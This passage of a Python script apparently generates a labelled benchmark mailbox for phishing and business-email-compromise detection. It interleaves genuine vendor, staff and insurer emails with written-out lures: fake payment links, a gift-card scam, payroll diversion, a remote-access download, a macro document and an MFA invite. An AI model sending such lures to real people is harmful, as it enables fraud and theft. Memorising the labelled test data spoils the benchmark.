ooo.add(daniel, "Hi Oliver,\n\nReviving this one - the landlord's auditor found the roof invoice was double-counted, so there's a GBP 970 credit for you on the June demand.",
        at(2025, 5, 12, 14, 20), GH, scen=("G20", "service-charge thread revived after 5 months for a real reason"))
ooo.add(me, "That's good to hear, thanks for chasing it.", at(2025, 5, 12, 15, 0))
t6.add(daniel, "Hi Oliver,\n\nThe rent review memorandum for the renewal needs a signature from you as well - I've shared it securely through DocuSign on OneDrive:\n\n"
       "https://harewoodpm-my.sharepoint.com/:b:/g/personal/d_crowther_harewood-pm_example/EbX" + alnum(40) + "?e=" + alnum(6)
       + "\n\nPlease review and sign by end of day.", at(2025, 2, 4, 4, 37), HJ("account-takeover"), client="owa-foreign", mid_client="exo", extra=[("X-Originating-IP", "[185.220.101.47]"), ("X-MS-Exchange-Organization-UserAgent", "Mozilla/5.0 (X11; Linux x86_64) OWA")],
       scen=("A5", "landlord's agent's real M365 account via OWA at 04:37, 'DocuSign' memo on a OneDrive/SharePoint link (legit platform)"))
spoof_dan = Pt("Daniel Crowther", "harewood.pm.lettings@outlook.com", "outlookcom", "outlookcom")
ooo.add(spoof_dan, "Hi Oliver,\n\nYou have a new voice message regarding the service charge credit. Listen via the attached secure player.",
        at(2025, 5, 19, 8, 2), HJ("display-name-spoof"), sig=False, quote=False,
        scen=("A13", "landlord agent's display name on an outlook.com address, voicemail SVG attachment with embedded link"),
        atts=[("VM_0113496_0455.svg", ('<svg xmlns="http://www.w3.org/2000/svg" width="400" height="120"><text x="10" y="40">Voice message (0:42)</text>'
                                      '<a href="https://vm-player.cloudvoice-uk.example/p?u=b2xpdmVy"><text x="10" y="80">Play</text></a>'
                                      '<script>/* inert probe placeholder */</script></svg>').encode(), "image/svg+xml")])

# ================================================================ T7 accountant + Xero (G15/G16 genuine pay links, G10 OOO, A3 lookalike, A10 server-hijack)
def xero_inv(t, n, amt, label=None, scen=None):
    link = f"https://in.xero.com/{alnum(40)}"
    return notice(xero, "xero", t, f"Invoice {n} from Kirkstall & Moor Chartered Accountants for Fairburn Veterinary Group",
                  f"Hi Oliver,\n\nHere's invoice {n} for GBP {amt}.\n\nThe amount outstanding of GBP {amt} is due on {t + datetime.timedelta(days=14):%d %b %Y}.\n\n"
                  f"View and pay your bill online: {link}\n\nFrom your online bill you can print a PDF, export a CSV, or create a free login and view your outstanding bills.\n\n"
                  "If you have any questions, please let us know.\n\nThanks,\nKirkstall & Moor Chartered Accountants",
                  f'<html><body><p>Hi Oliver,</p><p>Here\'s invoice {n} for GBP {amt}.</p><p><a href="{link}">View and pay</a></p></body></html>',
                  extra=[("Reply-To", "Priya Sharma <priya@kirkstallmoor.example>")], label=label, scen=scen)


for i, mo in enumerate(range(9, 13)): xero_inv(at(2024, mo, 3, 7, 2), f"KM-{5510 + i}", "450.00")
for i, mo in enumerate(range(1, 7)): xero_inv(at(2025, mo, 3, 7, 2), f"KM-{5530 + i}", "450.00",
                                               GH if mo == 2 else None, ("G15", "Xero invoice notification with a genuine in.xero.com pay link") if mo == 2 else None)
t7 = Thread("T7", priya, "Year-end accounts and VAT return Q3")
t7.add(priya, "Hi Oliver,\n\nI've started on the VAT return for the quarter to 30 November. Could you upload the bank statements to the portal?", at(2024, 12, 10, 10, 0))
t7.add(me, "Hi Priya,\n\nUploaded this morning.", at(2024, 12, 11, 9, 20))
t7.add(priya, "Thank you for your message. I'm out of the office until 2 January 2025. For anything urgent please contact reception@kirkstallmoor.example.",
       at(2024, 12, 11, 9, 20), GH, sig=False, quote=False, subj="Automatic reply: Year-end accounts and VAT return Q3",
       extra=[("Auto-Submitted", "auto-replied"), ("X-Auto-Response-Suppress", "All")], scen=("G10", "accountant's out-of-office automatic reply"))
t7.add(priya, "Hi Oliver,\n\nVAT return is ready for approval - summary on the portal: https://kirkstallmoor.sharefile.com/d-s" + alnum(30)
       + "\nIt shows GBP 18,402 payable by 7 February. Nothing needs to be paid to us.", at(2025, 1, 8, 11, 30), GH,
       scen=("G25", "accountant's ShareFile link to the VAT summary (portal used throughout)"))
t7.add(me, "Approved, thanks Priya. We'll pay HMRC by direct debit.", at(2025, 1, 8, 14, 0))
t7.add(priya, "Great - submitted to HMRC.", at(2025, 1, 9, 9, 5), G)
t7.add(priya, "Dear Oliver,\n\nHMRC has raised a query on the Q3 VAT return. Please review the attached notice and confirm the details via the secure link inside.",
       at(2025, 2, 21, 17, 58), HJ("server-hijack"), quote=False, sig=False,
       scen=("A10", "accountant's real M365 account and client: tax-query PDF with a link to an unknown domain, no quote, no signature"),
       atts=[("HMRC_VAT_Query_Q3.pdf", pdf(["HM Revenue & Customs - VAT enquiry", "Click to view secure notice"], uri="https://hmrc-vatnotice.securedocs-gb.example/view?ref=Q3-7713",
                                           producer="Microsoft: Print To PDF", when="20250221175000"), "application/pdf")])
look_priya = Pt("Priya Sharma", "priya@kirkstalImoor.example", "thunderbird", "look-kirk", priya.sig)
t7.add(look_priya, "Hi Oliver,\n\nSorry to chase - our Xero link for KM-5532 was returning an error for a few clients this week so I've reissued it. "
       "Could you settle the March invoice today using the link below? It also covers the GBP 180 payroll bureau fee we discussed.\n\n"
       "Pay now: https://in-xero.invoice-pay.example/KM-5532\n\nThanks ever so much.", at(2025, 3, 12, 12, 6), HJ("lookalike-domain"),
       scen=("A3", "accountant's name at look-alike domain (l/I), fake Xero pay link, quotes real thread"))
xero_inv(at(2025, 4, 24, 7, 2), "KM-5533", "450.00 (reminder)", GH, ("G16", "Xero overdue reminder with the genuine pay link"))

# ================================================================ T8 Vetrix support tickets (Zendesk) (G17, G18, O2, A8 server-hijack)
def zd(t, tk, subj, body, label=None, scen=None, refs=()):
    link = f"https://vetrix.zendesk.com/hc/requests/{tk}"
    return emit(vetrix, "zendesk", t, [(me.name, me.email)], None, f"[Vetrix Support] Re: {subj}", list(refs),
                f"##- Please type your reply above this line -##\n\n{body}\n\nYou can view this request at {link}\n\nThis email is a service from Vetrix Support.",
                extra=[("Reply-To", f"Vetrix Support <support+id{tk}@vetrix.zendesk.com>")], label=label, scen=scen)


zref = [make_mid(me, "exo", at(2024, 9, 16, 9, 0))]
emit(me, "exo", at(2024, 9, 16, 9, 0), [("Vetrix Support", "support@vetrix.example")], None, "Appointment book very slow since update 7.4", [],
     "Hi,\n\nSince 7.4 the appointment book takes 20+ seconds to open on all reception PCs.\n" + SIG_ME, mid=zref[0])
a = zd(at(2024, 9, 16, 9, 1), 88214, "Appointment book very slow since update 7.4", "Your request (88214) has been received and is being reviewed by our support staff.", refs=zref)
b = zd(at(2024, 9, 16, 14, 30), 88214, "Appointment book very slow since update 7.4",
       "Liam (Vetrix Support)\n\nHi Oliver, we've found the cause (an index rebuild). Please could one of your team start a session with our remote tool so I can apply the fix? "
       "Download it from our site: https://www.vetrix.example/support/quicksupport", GH, ("G17", "genuine ticket update: vendor's own remote-support tool on its own domain"), refs=zref + [a])
emit(me, "exo", at(2024, 9, 16, 14, 50), [("Vetrix Support", f"support+id88214@vetrix.zendesk.com")], None, "RE: [Vetrix Support] Re: Appointment book very slow since update 7.4",
     zref + [a, b], "Hi Liam, session code 481 220 - go ahead.\n" + SIG_ME)
zd(at(2024, 9, 17, 10, 0), 88214, "Appointment book very slow since update 7.4",
   "Your request (88214) has been solved. How would you rate the support you received? Good, I'm satisfied / Bad, I'm unsatisfied",
   GH, ("G18", "ticket solved + satisfaction survey notification"), refs=zref + [a, b])
zd(at(2025, 1, 20, 11, 10), 90177, "Lab results not importing", "Liam (Vetrix Support)\n\nHi Oliver, following your web-form request: the IDEXX connector needed re-authorising. Done from our side - please test.",
   GO, ("O2", "reply to a ticket Oliver opened through the web form (parent not in mailbox)"), refs=[f"<{hx(12)}_{hx(8)}_sprut@zendesk.com>"])
zd(at(2025, 4, 16, 19, 22), 90177, "Lab results not importing",
   "Liam (Vetrix Support)\n\nHi Oliver, as part of 7.6 all practices must install the new Vetrix Connect agent on reception PCs before Friday or lab imports will stop. "
   "Install from https://vetrix-connect-agent.remote-assist.example/download/VetrixConnect.exe and send me the 9-digit ID it shows.",
   HJ("server-hijack"), ("A8", "real Zendesk infrastructure of the vendor: remote-access tool on an unknown domain, revives a solved ticket in the evening"))

# ================================================================ T9 insurer (G24, G19 forward, A9 server-hijack macro doc)
t9 = Thread("T9", helen, "Practice combined policy - renewal 1 March")
t9.add(helen, "Hi Oliver,\n\nRenewal terms attached - premium up 6% with the new MRI scanner added to equipment cover.", at(2025, 1, 27, 11, 0), None,
       atts=[("Fairburn_Renewal_Terms_2025.pdf", pdf(["Dalesure - Renewal terms", "Premium GBP 14,380"], when="20250127100000"), "application/pdf")])
t9.add(me, "Thanks Helen. Could you send a claim form too? We had a break-in at the Chapel Allerton branch last week.", at(2025, 1, 28, 9, 0))
t9.add(helen, "Sorry to hear that. Claim form attached - fill in what you can and send with the crime reference.", at(2025, 1, 28, 10, 30), GH,
       scen=("G24", "insurer sends the claim form PDF Oliver requested"),
       atts=[("Dalesure_Property_Claim_Form.pdf", pdf(["Dalesure - Property claim form", "Crime reference:"], when="20250128100000"), "application/pdf")])
t9.add(me, "Thanks - completed form and crime ref 13250089112 attached.", at(2025, 1, 30, 15, 0))
t9.add(helen, "Thanks Oliver, loss adjuster will call you this week.", at(2025, 1, 31, 9, 10), G)
t9.add(helen, "Hi Oliver,\n\nThe adjuster has uploaded the settlement schedule. Please enable editing to view the protected content and confirm the figures.",
       at(2025, 2, 13, 12, 47), HJ("server-hijack"), quote=True,
       scen=("A9", "insurer's real M365 account/client: macro-enabled .docm 'settlement schedule', quotes the real thread"),
       atts=[("Settlement_Schedule_CLM-20931.docm", ooxml("docx", ["Protected content", "Enable editing to view"], macro=True), "application/vnd.ms-word.document.macroEnabled.12")])
fw = Thread("T9f", james, "FW: Professional indemnity renewal - Fairburn Veterinary Group")
fw.add(james, "Oliver - can you deal with this? Forwarding from my inbox.\n\nJames\n\n-----Original Message-----\nFrom: Veterinary Defence Society <renewals@vds-mutual.example>\n"
       "Sent: 03 March 2025 09:12\nSubject: Professional indemnity renewal - Fairburn Veterinary Group\n\nDear Dr Fairburn,\nYour renewal documents are attached.",
       at(2025, 3, 3, 12, 30), GH, sig=False, scen=("G19", "director forwards an external renewal with PDF (FW:, no reply headers)"),
       atts=[("PI_Renewal_2025.pdf", pdf(["Professional indemnity renewal 2025"], when="20250303090000"), "application/pdf")])
fw.add(me, "Will do, James.", at(2025, 3, 3, 13, 0))

# ================================================================ T10 director / internal (G30 vouchers genuine, A4 display-name spoof)
t10 = Thread("T10", james, "Christmas party and raffle")
t10.add(james, "Oliver,\n\nCan you sort the raffle prizes for the Christmas do? Budget GBP 300 - Love2shop vouchers are fine, order them on the company card.",
        at(2024, 11, 25, 17, 40), GH, scen=("G30", "director's real internal account asks for vouchers for the staff raffle (voucher request, genuine)"))
t10.add(me, "Will do - I'll order 6 x GBP 50 and bring them to the party.", at(2024, 11, 26, 8, 50))
t10.add(hannah, "Ooh, can nurses have the first ticket? :)", at(2024, 11, 26, 9, 30), G, cc=[(james.name, james.email)])
spoof_james = Pt("James Fairburn", "jfairburn.vet@gmail.com", "gmail", "gmail")
t10.add(spoof_james, "Oliver, are you at your desk? I need a favour for the staff - 8 Amazon gift cards of GBP 100 each, I'll sort the reimbursement. "
        "Scratch the backs and send me pictures of the codes here. I'm in a meeting so can't take calls.", at(2024, 12, 12, 10, 14), HJ("display-name-spoof"), quote=False, sig=False,
        client="iphone", scen=("A4", "director's display name on a Gmail address, Amazon gift cards, no quote, in the raffle thread"))

# ================================================================ T11 staff (Chloe hotmail, Mark BT) (G21, G26, G28, A11 ATO)
t11 = Thread("T11", chloe, "Rota swap Sat 19th")
t11.add(chloe, "Hi Oliver, is it ok if I swap my Sat 19th with Becky? She's agreed.", at(2024, 10, 10, 20, 2), None)
t11.add(me, "Fine by me Chloe, I'll update the rota.", at(2024, 10, 11, 8, 30))
t11.add(chloe, "Thank you!! Sorry for the late message, just finished a night shift at the referral place x", at(2024, 10, 11, 23, 40), GH,
        scen=("G21", "staff member replies from her phone at 23:40"))
t11.add(me, "No problem. See you Monday.", at(2024, 10, 12, 9, 0))
t11.add(chloe, "Hi Oliver, new phone so this might look different - could I book 3-7 March off please?", at(2025, 1, 15, 19, 12), GH, client="iphone",
        scen=("G26", "staff member switches from Outlook for iOS to iPhone Mail on a new phone"), mid_client="iphone")
t11.add(me, "Approved, enjoy.", at(2025, 1, 16, 8, 0))
t12 = Thread("T12", mark, "Payslip query")
t12.add(mark, "Hi Oliver, my November payslip shows the wrong tax code (1257L M1). Can you check with the payroll bureau?", at(2024, 12, 2, 18, 0), None)
t12.add(me, "Hi Mark, I've asked Kirkstall - they'll correct it in December.", at(2024, 12, 3, 9, 0))
t12.add(mark, "Cheers Oliver. Also I've switched banks - I've filled in the new details on the paper form and left it in your tray, as you said.",
        at(2024, 12, 3, 17, 30), GH, scen=("G28", "staff member mentions bank change, done on the paper form in person (no details in mail)"))
t12.add(me, "Got the form, thanks Mark. Will go through for January.", at(2024, 12, 4, 8, 40))
t12.add(mark, "Hi Oliver,\n\nI need to update my salary account before this month's payroll run, my old bank account has been closed. New details:\n\n"
        "Bank: Monzo\nSort code: 04-00-04\nAccount: 70213358\n\nPlease confirm once changed. Thanks", at(2025, 4, 22, 2, 14), HJ("account-takeover"), client="emclient",
        orig_ip="176.113.115.82", scen=("A11", "staff BT Mail account taken over: eM Client from a foreign IP at 02:14, payroll bank change, no payload"))

# ================================================================ internal nursing rota with SharePoint links (G3) + orphan O1
t13 = Thread("T13", hannah, "Nursing rota - Q1")
t13.add(hannah, "Hi Oliver,\n\nDraft Q1 rota is on SharePoint: https://fairburnvets.sharepoint.com/:x:/s/Nursing/EQ" + alnum(40), at(2024, 12, 5, 13, 0))
t13.add(me, "Looks good - can you give Chloe the 3rd-7th March off?", at(2024, 12, 5, 14, 20))
t13.add(hannah, "Done, updated version here: https://fairburnvets.sharepoint.com/:x:/s/Nursing/EQ" + alnum(40), at(2024, 12, 6, 9, 12), GH,
        scen=("G3", "colleague's SharePoint link in a thread that always had SharePoint links"))
emit(northway_cc, "ex19", at(2025, 2, 6, 14, 2), [("Fairburn Accounts", f"accounts@{OWN}")], [(me.name, me.email)], "RE: Remittance 06/02 - FVG", [f"<{hx(32)}@fairburnvets.example>"],
     "Hello,\n\nThank you for the remittance, allocated to invoices 771402 and 771455." + northway_cc.sig, label=GO,
     scen=("O1", "Northway AR replies to accounts@ with Oliver in Cc; the remittance email was sent by the accounts mailbox (parent not here)"))

# ================================================================ fake threads (A6 delivery, A14 invoice .img, A15 MFA .ics)
fk1 = Pt("ParcelLink UK", "notifications@trackparcel-uk.example", "phpmailer", "bulk2")
emit(fk1, "phpmailer", at(2025, 1, 9, 6, 31), [(me.name, me.email)], None, "RE: Delivery exception - order PVS-40284", [f"<{hx(24)}@pennine-vetsupplies.example>"],
     "Hello,\n\nWe attempted delivery of your temperature-controlled parcel today but no one was available to sign. Reschedule within 24h or it returns to sender "
     "(a GBP 1.99 redelivery fee applies): https://trackparcel-uk.example/redeliver?c=FVG0117\n\n> On 8 Jan 2025, Oliver Bennett wrote:\n> Please deliver before 10am",
     label=HJ("fake-thread"), scen=("A6", "stranger 'RE: Delivery exception' with fabricated quote of Oliver, redelivery-fee link"))
fk2 = Pt("Accounts - Lakeland Marquees", "accounts@lakelandmarquees.example", "outlookcom", "bulk3")
emit(fk2, "thunderbird", at(2025, 5, 28, 11, 4), [(me.name, me.email)], None, "RE: RE: Outstanding statement Fairburn", [f"<{hx(32)}@fairburnvets.example>", f"<{hx(32)}@lakelandmarquees.example>"],
     "Hi,\n\nFurther to our previous emails the statement is still outstanding. Copy invoices are in the attached file.\n\nRegards\nAccounts Team",
     label=HJ("fake-thread"), scen=("A14", "stranger invoice chaser, unknown References, disk-image attachment, no quote"),
     atts=[("Statement_Fairburn_May25.img", iso_image("STATEMENT"), "application/octet-stream")])
fk3 = Pt("IT Service Desk", "it-servicedesk@m365-secure-enrol.example", "phpmailer", "bulk1")
ics = ("BEGIN:VCALENDAR\r\nPRODID:-//Microsoft Corporation//Outlook 16.0 MIMEDIR//EN\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:" + ruuid()
       + "\r\nDTSTART:20250610T090000Z\r\nDTEND:20250610T091500Z\r\nSUMMARY:Mandatory MFA re-enrolment\r\nDESCRIPTION:Re-register your authenticator before 10 June: "
       "https://aka-mfa-enrol.m365-secure-enrol.example/fairburnvets\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")
emit(fk3, "phpmailer", at(2025, 6, 5, 8, 15), [(me.name, me.email)], None, "Re: MFA re-enrolment - Fairburn Veterinary Group", [f"<{hx(20)}@fairburnvets.example>"],
     "Hi Oliver,\n\nAs per your request, the calendar slot for your mailbox MFA re-enrolment is attached. Please complete it from the link in the invite.",
     label=HJ("fake-thread"), scen=("A15", "stranger MFA re-enrolment 'Re:' with an .ics invite carrying a link"),
     atts=[("invite.ics", ics.encode(), "text/calendar; method=REQUEST")])

# ================================================================ newsletters and GoCardless notices (G11-G14)
for i, mo in enumerate([(2024, 9), (2024, 10), (2024, 11), (2024, 12), (2025, 1), (2025, 2), (2025, 3), (2025, 4), (2025, 5), (2025, 6)]):
    t = at(*mo, 7, 6, 0); lab = GH if i in (3, 7) else None
    emit(rcvs, "mailchimp", t, [(me.name, me.email)], None, f"RCVS Knowledge Digest - {t:%B %Y}", [],
         f"This month: QI in practice, CPD webinars, antimicrobial stewardship.\nRead online: https://rcvsknowledge.us4.list-manage.com/track/click?u={hx(24)}&id={hx(10)}\n\n"
         f"You are receiving this email because you subscribed to RCVS Knowledge updates.\nUnsubscribe: https://rcvsknowledge.us4.list-manage.com/unsubscribe?u={hx(24)}",
         extra=[("List-Unsubscribe", f"<https://rcvsknowledge.us4.list-manage.com/unsubscribe?u={hx(24)}>"), ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"),
                ("List-Id", f"{hx(20)} <{hx(20)}.list-id.mcsv.net>"), ("Precedence", "bulk")],
         label=lab, scen=("G11" if i == 3 else "G12", "mailing-list newsletter with tracking links and list footer") if lab else None)
for i, mo in enumerate([(2024, 9), (2024, 10), (2024, 11), (2024, 12), (2025, 1), (2025, 2), (2025, 3), (2025, 4), (2025, 5), (2025, 6)]):
    t = at(*mo, 2, 6, 30); lab = GH if i in (4, 8) else None
    changed = i == 8
    emit(gc, "gocardless", t, [(me.name, me.email)], None,
         "Your Direct Debit mandate with Vetrix Cloud Ltd has been updated" if changed else f"Vetrix Cloud Ltd will collect GBP 389.00 from your account",
         [], ("Hi Oliver,\n\nVetrix Cloud Ltd has moved its Direct Debit to a new GoCardless creditor account. You don't need to do anything - your payments are protected by the Direct Debit Guarantee.\n\n"
              if changed else "Hi Oliver,\n\nVetrix Cloud Ltd will collect GBP 389.00 from your account ending 7114 on or shortly after the 5th.\n\n")
         + "Manage your Direct Debits: https://manage.gocardless.com/\n\nGoCardless Ltd, Sutton Yard, 65 Goswell Road, London, EC1V 7EN",
         label=lab, scen=(("G14", "GoCardless mandate-updated notice (creditor change wording, genuine)") if changed else ("G13", "GoCardless collection notice, no reply headers")) if lab else None)

# ================================================================ write, in arrival order
pending.sort(key=lambda x: (x[0], x[1]))
labels = ["mailbox\tmessage_id\tlabel\tkind"]
scen = ["file\tscenario\tdescription"]
for i, (t, _, folder, raw, lab, sc) in enumerate(pending, 1):
    path = f"mailboxes/{MB}/{folder}/{i}.eml"
    with open(f"{root}/{path}", "w", encoding="utf-8", newline="") as f: f.write(raw)
    if lab:
        labels.append(f"{MB}\t{lab[0]}\t{lab[1][0]}\t{lab[1][1]}")
        if not sc: raise SystemExit(f"labelled message without scenario: {lab}")
        scen.append(f"{path}\t{sc[0]}\t{sc[1]}")
open(f"{root}/labels.tsv", "w", encoding="utf-8").write("\n".join(labels) + "\n")
open(f"{root}/scenarios.tsv", "w", encoding="utf-8").write("\n".join(scen) + "\n")
print(f"{len(pending)} messages, {len(labels) - 1} labelled ({sum(1 for l in labels[1:] if l.split(chr(9))[2] == 'hijack')} hijack) -> {root}")
